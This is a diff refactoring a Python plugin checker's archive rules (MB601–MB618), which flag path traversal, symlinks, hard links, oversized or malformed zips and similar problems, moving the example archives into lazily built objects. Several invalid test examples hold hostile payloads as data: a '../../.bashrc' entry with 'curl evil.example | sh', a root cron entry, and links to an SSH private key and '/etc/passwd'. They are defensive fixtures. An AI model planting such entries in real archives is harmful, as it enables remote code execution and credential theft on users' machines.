@@ -5,152 +5,57 @@ each maps to the rule ``MB6nn`` here, which documents it. The findings are
 made before any file of the archive is analysed (nothing is ever extracted)
 and concern the archive as a whole; the entry's name is in the message.
 
-The rules' examples are archives, assembled here in memory when the module
-is imported (a few kilobytes; nothing is written to disk). Where a limit
-would take hundreds of megabytes to cross, the example's headers declare the
-sizes, which the inspection judges before reading any data.
+The rules' examples are archives: each rule says how to make them from a
+:class:`~mbcheck.archive.examples.Make`, and they are built in memory the
+first time they are read (:class:`Examples`), not when this module is imported.
 
 This module imports no libcst.
 """
 
 from __future__ import annotations
 
-import io
-import lzma
-import stat
-import struct
-import tarfile
-import zipfile
-import zlib
-from collections.abc import Iterable, Mapping, Sequence
-from gzip import compress as gzip_compress
-from pathlib import Path
-from typing import ClassVar
+from collections.abc import Callable, Iterable, Mapping, Sequence
+from typing import TYPE_CHECKING, ClassVar, overload
 
 from mbcheck.model import Category, Confidence, Finding, Severity, Span
-from mbcheck.rules.base import EXAMPLE_INIT, EXAMPLE_MANIFEST, Example, Invalid, Rule, Valid
+from mbcheck.rules.base import Example, Rule, Valid
 
-# --------------------------------------------------------------------------- example archives
+if TYPE_CHECKING:
+    from mbcheck.archive.examples import Make
 
-_MIB = 1024 * 1024
-_DATE = (1980, 1, 1, 0, 0, 0)
-
-#: the example plugin's `__init__.py`: the smallest that keeps the plugin contract
-
-ZipEntry = tuple[str | zipfile.ZipInfo, bytes]
+__all__ = ["RULES", "ArchiveRule", "Examples", "finding_for"]
 
 
-def _plugin(root: str = "example") -> list[ZipEntry]:
-    """The example plugin's files under the directory ``root``."""
-    return [(f"{root}/plugin.yaml", EXAMPLE_MANIFEST.encode()), (f"{root}/__init__.py", EXAMPLE_INIT.encode())]
+class Examples(Sequence[Example]):
+    """A rule's examples, made by ``make`` the first time they are read.
 
+    Building the example archives takes tens of milliseconds: every run
+    imports the rules, only the example tests and ``mbcheck explain`` read
+    the examples.
+    """
 
-def _zip(entries: Iterable[ZipEntry], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
-    """A zip archive of ``entries`` (names or prepared headers, and data), built in memory."""
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as zf:
-        for name, data in entries:
-            info = zipfile.ZipInfo(name, _DATE) if isinstance(name, str) else name
-            if isinstance(name, str):
-                info.external_attr = (stat.S_IFREG | 0o644) << 16
-            zf.writestr(info, data, compress_type=compression)
-    return buffer.getvalue()
+    def __init__(self, make: Callable[[Make], Iterable[Example]]) -> None:
+        self._make = make
+        self._built: tuple[Example, ...] | None = None
 
+    def _examples(self) -> tuple[Example, ...]:
+        if self._built is None:
+            from mbcheck.archive.examples import MAKE
 
-def _tar_gz(members: Iterable[tuple[str, bytes, bytes, str]]) -> bytes:
-    """A gzip-compressed tar archive of (name, tar type, data, link target), built in memory."""
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tf:
-        for name, kind, data, link in members:
-            info = tarfile.TarInfo(name)
-            info.type = kind
-            info.linkname = link
-            info.mode = 0o644
-            info.size = len(data) if kind == tarfile.REGTYPE else 0
-            tf.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
-    return gzip_compress(buffer.getvalue(), mtime=0)
+            self._built = tuple(self._make(MAKE))
+        return self._built
 
+    @overload
+    def __getitem__(self, index: int) -> Example: ...
 
-def _tar_plugin(*extra: tuple[str, bytes, bytes, str]) -> bytes:
-    files = [(str(name), tarfile.REGTYPE, data, "") for name, data in _plugin()]
-    return _tar_gz([*files, *extra])
+    @overload
+    def __getitem__(self, index: slice) -> Sequence[Example]: ...
 
+    def __getitem__(self, index: int | slice) -> Example | Sequence[Example]:
+        return self._examples()[index]
 
-#: header fields of a zip entry: (offset in the central header, offset in the local header or -1, format)
-_FIELDS = {
-    "flag_bits": (8, 6, "<H"),
-    "compress_type": (10, 8, "<H"),
-    "crc": (16, 14, "<L"),
-    "compress_size": (20, 18, "<L"),
-    "file_size": (24, 22, "<L"),
-    "header_offset": (42, -1, "<L"),
-}
-
-
-def _patched(data: bytes, name: str, *, local: bool = True, **fields: int) -> bytes:
-    """``data`` with header fields of the zip entry ``name`` overwritten (central and local headers)."""
-    out = bytearray(data)
-    with zipfile.ZipFile(io.BytesIO(data)) as zf:
-        header = zf.getinfo(name).header_offset
-        at = zf.start_dir
-    while out[at : at + 4] == b"PK\x01\x02":
-        name_len, extra_len, comment_len = struct.unpack_from("<3H", out, at + 28)
-        if out[at + 46 : at + 46 + name_len] == name.encode():
-            for key, value in fields.items():
-                central, local_at, fmt = _FIELDS[key]
-                struct.pack_into(fmt, out, at + central, value)
-                if local and local_at >= 0:
-                    struct.pack_into(fmt, out, header + local_at, value)
-        at += 46 + name_len + extra_len + comment_len
-    return bytes(out)
-
-
-def _lzma_zip(entries: Iterable[tuple[str, bytes]]) -> bytes:
-    """A zip of LZMA-compressed entries (method 14), with a small dictionary so building is cheap."""
-    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096, "lc": 3, "lp": 0, "pb": 2}]
-    header = struct.pack("<BBHBI", 9, 4, 5, (2 * 5 + 0) * 9 + 3, 4096)  # LZMA SDK 9.4, the 5 property bytes
-    files = [(name, data, lzma.LZMACompressor(lzma.FORMAT_RAW, filters=filters)) for name, data in entries]
-    data = _zip([(name, header + packer.compress(raw) + packer.flush()) for name, raw, packer in files], zipfile.ZIP_STORED)
-    for name, raw, _ in files:
-        data = _patched(data, name, compress_type=zipfile.ZIP_LZMA, flag_bits=0x2, file_size=len(raw), crc=zlib.crc32(raw))
-    return data
-
-
-def _declaring_members(data: bytes, count: int) -> bytes:
-    """``data`` (a zip without comment) whose end record declares ``count`` members."""
-    end = len(data) - 22
-    return data[: end + 8] + struct.pack("<2H", count, count) + data[end + 12 :]
-
-
-def _symlink(name: str) -> zipfile.ZipInfo:
-    info = zipfile.ZipInfo(name, _DATE)
-    info.create_system = 3
-    info.external_attr = (stat.S_IFLNK | 0o777) << 16
-    return info
-
-
-_CLEAN = _zip(_plugin())
-_CLEAN_TAR = _tar_plugin()
-_PLAIN = _zip(
-    [*_plugin(), ("example/cli.py", b"def main() -> None:\n    print('hello')\n")],
-)
-
-
-def _declared(sizes: Mapping[str, int]) -> bytes:
-    """A zip whose stored entries' headers declare ``sizes``; the data is not there to read."""
-    data = _zip([*_plugin(), *((name, b"\0" * 16) for name in sizes)], zipfile.ZIP_STORED)
-    for name, size in sizes.items():
-        data = _patched(data, name, file_size=size, compress_size=size)
-    return data
-
-
-def _flagged(archive: bytes, archive_name: str = "example.zip") -> Invalid:
-    """An INVALID archive example: every archive finding is about the archive as a whole."""
-    return Invalid(archive=archive, archive_name=archive_name, path="")
-
-
-_FINE = Valid(archive=_CLEAN)
-_FINE_TAR = Valid(archive=_CLEAN_TAR, archive_name="example.tar.gz")
+    def __len__(self) -> int:
+        return len(self._examples())
 
 
 class ArchiveRule(Rule):
@@ -165,7 +70,7 @@ class ArchiveRule(Rule):
     confidence = Confidence.HIGH
     #: the archive module's problem code this rule documents
     problem: ClassVar[str] = ""
-    VALID: ClassVar[Sequence[Example]] = (_FINE,)
+    VALID: ClassVar[Sequence[Example]] = Examples(lambda make: (make.fine,))
 
 
 class UnreadableArchive(ArchiveRule):
@@ -179,8 +84,8 @@ class UnreadableArchive(ArchiveRule):
     code = "MB601"
     name = "unreadable-archive"
     problem = "MBA001"
-    VALID = (_FINE, _FINE_TAR)
-    INVALID = (_flagged(_CLEAN[: len(_CLEAN) // 2]), _flagged(b"just some text", "example.tar.gz"))
+    VALID = Examples(lambda make: (make.fine, make.fine_tar))
+    INVALID = Examples(lambda make: (make.flagged(make.clean[: len(make.clean) // 2]), make.flagged(b"just some text", "example.tar.gz")))
 
 
 class ArchivePathTraversal(ArchiveRule):
@@ -195,8 +100,8 @@ class ArchivePathTraversal(ArchiveRule):
     code = "MB602"
     name = "archive-path-traversal"
     problem = "MBA002"
-    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("./example/notes..txt", b"dots inside a name are fine")])))
-    INVALID = (_flagged(_zip([*_plugin(), ("../../.bashrc", b"curl evil.example | sh\n")])),)
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("./example/notes..txt", b"dots inside a name are fine")]))))
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("../../.bashrc", b"curl evil.example | sh\n")])),))
 
 
 class ArchiveAbsolutePath(ArchiveRule):
@@ -210,7 +115,7 @@ class ArchiveAbsolutePath(ArchiveRule):
     code = "MB603"
     name = "archive-absolute-path"
     problem = "MBA003"
-    INVALID = (_flagged(_zip([*_plugin(), ("/etc/cron.d/example", b"* * * * * root sh\n")])),)
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("/etc/cron.d/example", b"* * * * * root sh\n")])),))
 
 
 class ArchiveUnsafeName(ArchiveRule):
@@ -225,7 +130,7 @@ class ArchiveUnsafeName(ArchiveRule):
     code = "MB604"
     name = "archive-unsafe-name"
     problem = "MBA004"
-    INVALID = (_flagged(_zip([*_plugin(), ("example\\cli.py", b"print(1)\n")])),)
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example\\cli.py", b"print(1)\n")])),))
 
 
 class ArchiveSymlink(ArchiveRule):
@@ -239,8 +144,8 @@ class ArchiveSymlink(ArchiveRule):
     code = "MB605"
     name = "archive-symlink"
     problem = "MBA005"
-    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("example/config.py", b"GREETING = 'hello'\n")])))
-    INVALID = (_flagged(_zip([*_plugin(), (_symlink("example/config.py"), b"/home/user/.ssh/id_rsa")])),)
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/config.py", b"GREETING = 'hello'\n")]))))
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), (make.symlink("example/config.py"), b"/home/user/.ssh/id_rsa")])),))
 
 
 class ArchiveHardLink(ArchiveRule):
@@ -254,8 +159,8 @@ class ArchiveHardLink(ArchiveRule):
     code = "MB606"
     name = "archive-hard-link"
     problem = "MBA006"
-    VALID = (_FINE_TAR,)
-    INVALID = (_flagged(_tar_plugin(("example/config.py", tarfile.LNKTYPE, b"", "/etc/passwd")), "example.tar.gz"),)
+    VALID = Examples(lambda make: (make.fine_tar,))
+    INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/config.py", make.LNKTYPE, b"", "/etc/passwd")), "example.tar.gz"),))
 
 
 class ArchiveSpecialFile(ArchiveRule):
@@ -269,8 +174,8 @@ class ArchiveSpecialFile(ArchiveRule):
     code = "MB607"
     name = "archive-special-file"
     problem = "MBA007"
-    VALID = (_FINE_TAR,)
-    INVALID = (_flagged(_tar_plugin(("example/pipe", tarfile.FIFOTYPE, b"", "")), "example.tar.gz"),)
+    VALID = Examples(lambda make: (make.fine_tar,))
+    INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/pipe", make.FIFOTYPE, b"", "")), "example.tar.gz"),))
 
 
 class ArchiveDuplicateName(ArchiveRule):
@@ -284,11 +189,11 @@ class ArchiveDuplicateName(ArchiveRule):
     code = "MB608"
     name = "archive-duplicate-name"
     problem = "MBA008"
-    VALID = (_FINE, Valid(archive=_PLAIN))
-    INVALID = (
-        _flagged(_zip([*_plugin(), ("example/cli.py", b"print('checked')\n"), ("example/CLI.py", b"print('run')\n")])),
-        _flagged(_zip([*_plugin(), ("example/cli", b"a file"), ("example/cli/main.py", b"print(1)\n")])),
-    )
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.plain)))
+    INVALID = Examples(lambda make: (
+        make.flagged(make.zip([*make.plugin(), ("example/cli.py", b"print('checked')\n"), ("example/CLI.py", b"print('run')\n")])),
+        make.flagged(make.zip([*make.plugin(), ("example/cli", b"a file"), ("example/cli/main.py", b"print(1)\n")])),
+    ))
 
 
 class ArchiveEncryptedEntry(ArchiveRule):
@@ -301,7 +206,7 @@ class ArchiveEncryptedEntry(ArchiveRule):
     code = "MB609"
     name = "archive-encrypted-entry"
     problem = "MBA009"
-    INVALID = (_flagged(_patched(_PLAIN, "example/cli.py", flag_bits=0x1)),)
+    INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", flag_bits=0x1)),))
 
 
 class ArchiveTooManyMembers(ArchiveRule):
@@ -316,7 +221,7 @@ class ArchiveTooManyMembers(ArchiveRule):
     name = "archive-too-many-members"
     problem = "MBA010"
     # the end record declares the members: a zip really holding 10,001 would weigh a megabyte
-    INVALID = (_flagged(_declaring_members(_CLEAN, 10_001)),)
+    INVALID = Examples(lambda make: (make.flagged(make.declaring_members(make.clean, 10_001)),))
 
 
 class ArchiveMemberTooLarge(ArchiveRule):
@@ -329,7 +234,7 @@ class ArchiveMemberTooLarge(ArchiveRule):
     code = "MB611"
     name = "archive-member-too-large"
     problem = "MBA011"
-    INVALID = (_flagged(_declared({"example/model.bin": 60 * _MIB})),)
+    INVALID = Examples(lambda make: (make.flagged(make.declared({"example/model.bin": 60 * 1024 * 1024})),))
 
 
 class ArchiveTooLarge(ArchiveRule):
@@ -343,7 +248,7 @@ class ArchiveTooLarge(ArchiveRule):
     code = "MB612"
     name = "archive-too-large"
     problem = "MBA012"
-    INVALID = (_flagged(_declared({f"example/data{i}.bin": 45 * _MIB for i in range(5)})),)
+    INVALID = Examples(lambda make: (make.flagged(make.declared({f"example/data{i}.bin": 45 * 1024 * 1024 for i in range(5)})),))
 
 
 class ArchiveCompressionRatio(ArchiveRule):
@@ -359,8 +264,8 @@ class ArchiveCompressionRatio(ArchiveRule):
     name = "archive-compression-ratio"
     problem = "MBA013"
     # blank lines compress 1000:1 too, but a file under a megabyte is never judged by its ratio
-    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("example/blank.txt", b"\n" * 200_000)])))
-    INVALID = (_flagged(_zip([*_plugin(), ("example/data.bin", bytes(2 * _MIB))])),)
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/blank.txt", b"\n" * 200_000)]))))
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example/data.bin", bytes(2 * 1024 * 1024))])),))
 
 
 class ArchiveInconsistentEntry(ArchiveRule):
@@ -374,7 +279,7 @@ class ArchiveInconsistentEntry(ArchiveRule):
     code = "MB614"
     name = "archive-inconsistent-entry"
     problem = "MBA014"
-    INVALID = (_flagged(_PLAIN.replace(b"example/cli.py", b"example/evl.py", 1)),)
+    INVALID = Examples(lambda make: (make.flagged(make.plain.replace(b"example/cli.py", b"example/evl.py", 1)),))
 
 
 class ArchiveUnsupportedCompression(ArchiveRule):
@@ -388,8 +293,8 @@ class ArchiveUnsupportedCompression(ArchiveRule):
     code = "MB615"
     name = "archive-unsupported-compression"
     problem = "MBA015"
-    VALID = (_FINE, Valid(archive=_zip(_plugin(), zipfile.ZIP_STORED)), Valid(archive=_zip(_plugin(), zipfile.ZIP_BZIP2)))
-    INVALID = (_flagged(_lzma_zip((str(name), data) for name, data in _plugin())),)
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip(make.plugin(), make.ZIP_STORED)), Valid(archive=make.zip(make.plugin(), make.ZIP_BZIP2))))
+    INVALID = Examples(lambda make: (make.flagged(make.lzma_zip((str(name), data) for name, data in make.plugin())),))
 
 
 class ArchiveOverlappingEntries(ArchiveRule):
@@ -403,7 +308,7 @@ class ArchiveOverlappingEntries(ArchiveRule):
     code = "MB616"
     name = "archive-overlapping-entries"
     problem = "MBA016"
-    INVALID = (_flagged(_patched(_PLAIN, "example/cli.py", local=False, header_offset=0)),)
+    INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", local=False, header_offset=0)),))
 
 
 class ArchiveMultipleRoots(ArchiveRule):
@@ -417,8 +322,8 @@ class ArchiveMultipleRoots(ArchiveRule):
     code = "MB617"
     name = "archive-multiple-roots"
     problem = "MBA017"
-    VALID = (_FINE, Valid(archive=_zip([("README.md", b"# example\n"), *_plugin(), ("example/sub/__init__.py", b"")])))
-    INVALID = (_flagged(_zip([*_plugin("one"), *_plugin("two")])),)
+    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([("README.md", b"# example\n"), *make.plugin(), ("example/sub/__init__.py", b"")]))))
+    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin("one"), *make.plugin("two")])),))
 
 
 class ArchiveAmbiguousFormat(ArchiveRule):
@@ -432,10 +337,10 @@ class ArchiveAmbiguousFormat(ArchiveRule):
     code = "MB618"
     name = "archive-ambiguous-format"
     problem = "MBA018"
-    INVALID = (
-        _flagged(b"#!/bin/sh\nexec python3 -m example\n" + _CLEAN),
-        _flagged(_CLEAN_TAR + _CLEAN, "example.tar.gz"),
-    )
+    INVALID = Examples(lambda make: (
+        make.flagged(b"#!/bin/sh\nexec python3 -m example\n" + make.clean),
+        make.flagged(make.clean_tar + make.clean, "example.tar.gz"),
+    ))
 
 
 #: the archive module's problem code -> the rule documenting it
@@ -455,24 +360,3 @@ def finding_for(code: str, message: str) -> Finding:
     rule = RULES.get(code, UnreadableArchive)
     text = message if code in RULES else f"{message} ({code})"
     return rule.finding(Span(""), text)
-
-
-def default_package(archive: Path) -> str:
-    """The import name of a plugin whose files sit at the archive's top level."""
-    name = archive.name
-    if name.lower().endswith(".whl"):
-        return name.split("-", 1)[0]
-    return name.split(".", 1)[0]
-
-
-def read_archive(archive: Path) -> tuple[dict[str, bytes], list[Finding], str]:
-    """The plugin's files in ``archive`` (in memory), its problems as findings, and its package name."""
-    from mbcheck.archive.inspect import inspect_archive
-
-    contents = inspect_archive(archive)
-    problems = [finding_for(problem.code, problem.message) for problem in contents.problems]
-    package = contents.root.rsplit("/", 1)[-1] if contents.root else default_package(archive)
-    return dict(contents.files), problems, package
-
-
-__all__ = ["RULES", "ArchiveRule", "default_package", "finding_for", "read_archive"]
